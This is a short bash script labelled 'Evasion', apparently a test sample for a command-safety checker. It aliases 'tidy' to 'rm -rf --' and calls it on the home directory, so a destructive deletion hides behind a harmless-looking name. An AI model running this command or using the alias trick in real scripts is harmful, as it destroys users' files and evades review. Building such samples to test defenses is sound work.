#!/usr/bin/env bash
# Evasion: delete the home directory through an alias. expand_aliases is on,
# so "tidy" expands to "rm -rf --" when the following line is parsed; the
# call site only shows "tidy" and the home path.
shopt -s expand_aliases
alias tidy='rm -rf --'
target=$HOME
tidy "$target"/
